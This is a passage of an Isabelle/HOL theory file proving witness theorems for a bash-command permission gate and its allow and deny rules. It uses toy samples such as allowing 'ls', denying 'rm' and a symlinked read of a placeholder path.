  by (simp add: rule_is_catchall_def bash_probes_def pattern_matches_def compile_matcher_def glob_matches_def
      sample_env_def starts_with_def trim_start_def is_whitespace_def)

lemma sample_words_allowed:
  "bash_words_allowed sample_env (sample_policy RuleAction.Allow ToolFilter.Bash (lit ''ls'')) scope [lit ''ls'']"
  using sample_vehicle sample_not_catchall
  by (simp add: bash_words_allowed_iff rule_allows_words_def bash_or_any_def bash_allow_pattern_matches_def
      bash_command_matches_pattern_def matches_command_prefix_def trim_def trim_start_def trim_end_def is_whitespace_def)

lemma sample_no_match: "\<not> rule_matches sample_env (AccessKind.Bash (lit ''ls'')) None
    \<lparr>action = RuleAction.Deny, tool = ToolFilter.Bash, pattern = Some (lit ''rm''), pattern_mode = Glob\<rparr>"
  by (simp add: rule_matches_def pattern_matches_def compile_matcher_def glob_matches_def
      sample_env_def starts_with_def trim_start_def is_whitespace_def)

lemma sample_silent: "evaluate sample_env (sample_policy RuleAction.Deny ToolFilter.Bash (lit ''rm'')) (AccessKind.Bash (lit ''ls'')) = None"
  using sample_no_match allowed_chain_has_rule [of sample_env "sample_rule RuleAction.Deny ToolFilter.Bash (lit ''rm'')"]
  by (auto simp: evaluate_Bash lexical_verdict simp del: lit_Cons)

lemma sample_gate_silent:
  "evaluate_bash_command_gate sample_env (sample_policy RuleAction.Deny ToolFilter.Bash (lit ''rm'')) (lit ''ls'') = None"
proof -
  let ?P = "sample_policy RuleAction.Deny ToolFilter.Bash (lit ''rm'')"
  have "escalate sample_env ?P (lit ''ls'') = None" by (simp add: escalate_def sample_silent del: lit_Cons)
  then have "evaluate_own_words sample_env ?P [lit ''ls''] = None"
    using sample_peel by (simp add: evaluate_own_words_def Let_def cleanly_peeled_def combine_gate_decisions_def del: lit_Cons)
  then have words: "evaluate_command_words sample_env ?P deeper [lit ''ls''] = None" for deeper
    using sample_peel sample_not_inline by (simp add: evaluate_command_words_def Let_def del: lit_Cons)
  obtain deeper where "evaluate_bash_command_segments sample_env ?P MAX_INLINE_SHELL_DEPTH (lit ''ls'') =
      evaluate_segments sample_env ?P deeper (lit ''ls'')"
    by (rule segments_cases)
  then show ?thesis
    using words by (simp add: evaluate_bash_command_gate_def evaluate_segments_def sample_commands combine_gate_decisions_def
        del: lit_Cons)
qed

theorem denied_command_is_rejected_witness:
  "\<exists>r. evaluate_bash_command_gate sample_env (sample_policy RuleAction.Deny ToolFilter.Bash (lit ''ls'')) (lit ''ls'') =
     Some (GateDecision.Reject r)"
proof -
  have "evaluate sample_env (sample_policy RuleAction.Deny ToolFilter.Bash (lit ''ls'')) (AccessKind.Bash (lit ''ls'')) =
      Some (Decision.Reject (deny_reason (hd (rules (sample_rule RuleAction.Deny ToolFilter.Bash (lit ''ls''))))))"
    by code_simp
  then show ?thesis
    using denied_command_is_rejected [OF runs_script.itself sample_commands, of ls_command "lit ''ls''"] sample_forms by simp
qed

theorem silent_gate_means_clean_witness:
  "clean_script sample_env (sample_policy RuleAction.Deny ToolFilter.Bash (lit ''rm'')) MAX_INLINE_SHELL_DEPTH (lit ''ls'')"
proof -
  have "has_bash_command_restrictions (sample_policy RuleAction.Deny ToolFilter.Bash (lit ''rm''))"
    by (simp add: restricts_def bash_or_any_def)
  from silent_gate_means_clean [OF this] sample_gate_silent show ?thesis
    using runs_script.itself by metis
qed

theorem allowed_script_is_allowed_everywhere_witness:
  "\<exists>cs. all_commands_from_script (try_parse_shell sample_env) (lit ''ls'') = Some cs \<and> cs \<noteq> [] \<and>
     (\<forall>c \<in> set cs. cleanly_peeled (normalize_command_words (words c)))"
proof -
  have "evaluate sample_env (sample_policy RuleAction.Allow ToolFilter.Bash (lit ''ls'')) (AccessKind.Bash (lit ''ls'')) =
      Some Decision.Allow"
    using sample_chain_allowed [OF sample_words_allowed] by (simp add: evaluate_Bash lexical_verdict del: lit_Cons)
  from allowed_script_is_allowed_everywhere [OF this runs_script.itself] show ?thesis by blast
qed

theorem narrow_grants_are_narrow_witness:
  "\<not> head_is_exec_vehicle (peel_words (normalize_command_words (words ls_command)))"
proof -
  have "narrow_allow_authorizes sample_env (sample_policy RuleAction.Allow ToolFilter.Bash (lit ''ls'')) (AccessKind.Bash (lit ''ls''))"
    using sample_chain_allowed [OF sample_words_allowed] by (simp add: narrow_allow_authorizes_def bash_or_any_def del: lit_Cons)
  from narrow_grants_are_narrow [OF this runs_script.itself sample_commands, of ls_command] show ?thesis by simp
qed

theorem rule_order_is_irrelevant_witness:
  "\<forall>r s. map_option decision_rank (evaluate_lexical_with_cwd sample_env
     (CompiledPolicy_new sample_env (PermissionConfig_new [r, s])) (AccessKind.Bash (lit ''ls'')) None) =
   map_option decision_rank (evaluate_lexical_with_cwd sample_env
     (CompiledPolicy_new sample_env (PermissionConfig_new [s, r])) (AccessKind.Bash (lit ''ls'')) None)"
proof (intro allI)
  fix r s :: PermissionRule
  have "set (rules (PermissionConfig_new [r, s])) = set (rules (PermissionConfig_new [s, r]))"
    by (simp add: PermissionConfig_new_def insert_commute)
  then show "map_option decision_rank (evaluate_lexical_with_cwd sample_env
     (CompiledPolicy_new sample_env (PermissionConfig_new [r, s])) (AccessKind.Bash (lit ''ls'')) None) =
   map_option decision_rank (evaluate_lexical_with_cwd sample_env
     (CompiledPolicy_new sample_env (PermissionConfig_new [s, r])) (AccessKind.Bash (lit ''ls'')) None)"
    by (rule rule_order_is_irrelevant)
qed

theorem symlinks_only_escalate_witness:
  "evaluate_lexical_with_cwd sample_env (sample_policy RuleAction.Deny ToolFilter.Read (lit ''/etc/x''))
     (AccessKind.Read (Some (lit ''/w/link''))) None = None \<and>
   3 \<le> decision_rank_option (evaluate_with_cwd sample_env (sample_policy RuleAction.Deny ToolFilter.Read (lit ''/etc/x''))
     (AccessKind.Read (Some (lit ''/w/link''))) None)"
proof -
  let ?P = "sample_policy RuleAction.Deny ToolFilter.Read (lit ''/etc/x'')" and ?a = "AccessKind.Read (Some (lit ''/w/link''))"
  have "symlink_target sample_env ?a None = Some (lit ''/etc/x'')"
    "evaluate_lexical_with_cwd sample_env ?P (access_with_path ?a (lit ''/etc/x'')) None =
      Some (Decision.Reject (deny_reason (hd (rules (sample_rule RuleAction.Deny ToolFilter.Read (lit ''/etc/x''))))))"
    "evaluate_lexical_with_cwd sample_env ?P ?a None = None"
    by code_simp+
  then show ?thesis using symlinks_only_escalate [of sample_env ?P ?a None] by fastforce
qed

end
